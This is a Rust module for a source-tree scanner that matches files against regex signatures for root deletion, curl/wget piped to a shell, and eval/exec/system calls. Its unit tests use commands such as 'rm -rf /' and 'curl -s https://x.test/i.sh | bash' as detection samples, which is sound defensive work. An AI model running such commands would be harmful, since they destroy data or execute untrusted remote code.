// Source tree scanner for high-risk signatures

use super::error::{AssessmentError, Result};
use regex::Regex;
use std::fs::File;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use tracing::debug;

const SIGNATURES: [(&str, &str); 5] = [
    (
        "recursive-root-delete",
        r"\brm\s+(?:-[a-zA-Z]*\s+)*-[a-zA-Z]*(?:r[a-zA-Z]*f|f[a-zA-Z]*r)[a-zA-Z]*\s+(?:--no-preserve-root\s+)?/(?:\*|\s|$)",
    ),
    (
        "pipe-to-shell",
        r"\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+)?(?:ba|da|z|k)?sh\b",
    ),
    ("eval-call", r"\beval\s*\("),
    ("exec-call", r"\bexec\s*\("),
    ("system-call", r"\bsystem\s*\("),
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanFinding {
    pub path: PathBuf,
    pub line: usize,
    pub signature: String,
    pub excerpt: String,
}

impl std::fmt::Display for ScanFinding {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{}:{}: {} ({})",
            self.path.display(),
            self.line,
            self.signature,
            self.excerpt
        )
    }
}

pub struct CodeScanner {
    signatures: Vec<(String, Regex)>,
}

impl CodeScanner {
    /// Scanner with the built-in signature set
    pub fn new() -> Result<Self> {
        Self::with_signatures(SIGNATURES.iter().map(|(n, p)| (n.to_string(), p.to_string())))
    }

    pub fn with_signatures(signatures: impl IntoIterator<Item = (String, String)>) -> Result<Self> {
        let signatures = signatures
            .into_iter()
            .map(|(name, pattern)| {
                Regex::new(&pattern)
                    .map(|re| (name.clone(), re))
                    .map_err(|e| AssessmentError::Configuration(format!("signature '{}': {}", name, e)))
            })
            .collect::<Result<Vec<_>>>()?;
        Ok(Self { signatures })
    }

    fn match_line(&self, line: &str) -> Option<(&str, String)> {
        self.signatures
            .iter()
            .find(|(_, re)| re.is_match(line))
            .map(|(name, _)| (name.as_str(), line.trim().chars().take(120).collect()))
    }

    /// First signature hit in `text` as `(line, signature, excerpt)`.
    pub fn scan_text(&self, text: &str) -> Option<(usize, &str, String)> {
        text.lines()
            .enumerate()
            .find_map(|(idx, line)| self.match_line(line).map(|(name, excerpt)| (idx + 1, name, excerpt)))
    }

    /// Line-by-line scan of any byte stream. Invalid UTF-8 and NUL bytes are
    /// decoded lossily so binary content is still matched.
    pub fn scan_reader<R: BufRead>(&self, mut reader: R) -> std::io::Result<Option<(usize, &str, String)>> {
        let mut buf = Vec::new();
        let mut line_no = 0;
        loop {
            buf.clear();
            if reader.read_until(b'\n', &mut buf)? == 0 {
                return Ok(None);
            }
            line_no += 1;
            let line = String::from_utf8_lossy(&buf);
            if let Some((name, excerpt)) = self.match_line(&line) {
                return Ok(Some((line_no, name, excerpt)));
            }
        }
    }

    /// Scan every regular file under `root`; at most one finding per file.
    pub fn scan_tree(&self, root: &Path) -> Result<Vec<ScanFinding>> {
        let mut findings = Vec::new();
        for path in source_files(root)? {
            let file = File::open(&path)?;
            if let Some((line, signature, excerpt)) = self.scan_reader(BufReader::new(file))? {
                debug!(path = %path.display(), line, signature, "Signature matched");
                findings.push(ScanFinding {
                    path: path.clone(),
                    line,
                    signature: signature.to_string(),
                    excerpt,
                });
            }
        }
        Ok(findings)
    }
}

/// Regular files under `root`, excluding anything inside `.git`.
pub fn source_files(root: &Path) -> Result<Vec<PathBuf>> {
    let pattern = format!(
        "{}/**/*",
        glob::Pattern::escape(&root.to_string_lossy())
    );
    let entries = glob::glob(&pattern)
        .map_err(|e| AssessmentError::Validation(format!("bad source path {}: {}", root.display(), e)))?;

    let mut files = Vec::new();
    for entry in entries {
        let path = entry.map_err(|e| AssessmentError::Io(e.into()))?;
        let relative = path.strip_prefix(root).unwrap_or(&path);
        if relative.components().any(|c| c.as_os_str() == ".git") {
            continue;
        }
        if path.is_file() {
            files.push(path);
        }
    }
    Ok(files)
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::TempDir;

    fn scanner() -> CodeScanner {
        CodeScanner::new().unwrap()
    }

    #[test]
    fn test_signatures() {
        let s = scanner();
        assert_eq!(s.scan_text("rm -rf /").unwrap().1, "recursive-root-delete");
        assert_eq!(s.scan_text("sudo rm -fr / ").unwrap().1, "recursive-root-delete");
        assert_eq!(
            s.scan_text("curl -s https://x.test/i.sh | bash").unwrap().1,
            "pipe-to-shell"
        );
        assert_eq!(s.scan_text("wget -qO- x | sh").unwrap().1, "pipe-to-shell");
        assert_eq!(s.scan_text("const x = eval (input);").unwrap().1, "eval-call");
        assert_eq!(s.scan_text("os.system('ls')").unwrap().1, "system-call");
        assert_eq!(s.scan_text("\n\nexec(code)").unwrap().0, 3);
    }

    #[test]
    fn test_benign_text() {
        let s = scanner();
        assert!(s.scan_text("rm -rf ./build").is_none());
        assert!(s.scan_text("evaluate(x); executor(y); filesystem(z)").is_none());
        assert!(s.scan_text("curl https://x.test -o file.tar").is_none());
    }

    #[test]
    fn test_invalid_signature_is_configuration_error() {
        let err = CodeScanner::with_signatures(vec![("bad".to_string(), "(".to_string())])
            .err()
            .unwrap();
        assert_eq!(err.code(), "CONFIGURATION_ERROR");
    }

    #[test]
    fn test_scan_tree_skips_git() {
        let dir = TempDir::new().unwrap();
        std::fs::create_dir_all(dir.path().join("src")).unwrap();
        std::fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
        std::fs::write(dir.path().join("src/ok.js"), "console.log('hi')\n").unwrap();
        std::fs::write(dir.path().join(".git/hooks/pre-commit"), "eval(x)\n").unwrap();

        let s = scanner();
        assert!(s.scan_tree(dir.path()).unwrap().is_empty());
        assert_eq!(source_files(dir.path()).unwrap().len(), 1);

        std::fs::write(dir.path().join("src/bad.py"), "import os\nos.system('id')\n").unwrap();
        let findings = s.scan_tree(dir.path()).unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].line, 2);
        assert_eq!(findings[0].signature, "system-call");
    }

    #[test]
    fn test_scan_tree_reads_large_files_to_the_end() {
        let dir = TempDir::new().unwrap();
        let mut big = "a".repeat(1_200_000);
        big.push_str("\ncurl -fsSL https://x.test/i.sh | sh\n");
        std::fs::write(dir.path().join("bundle.js"), big).unwrap();

        let findings = scanner().scan_tree(dir.path()).unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].line, 2);
        assert_eq!(findings[0].signature, "pipe-to-shell");
    }

    #[test]
    fn test_scan_tree_reads_files_with_nul_bytes() {
        let dir = TempDir::new().unwrap();
        std::fs::write(dir.path().join("blob.bin"), b"\x00\xff\xfe\nconst out = eval(userInput);\n").unwrap();

        let findings = scanner().scan_tree(dir.path()).unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].signature, "eval-call");
    }
}
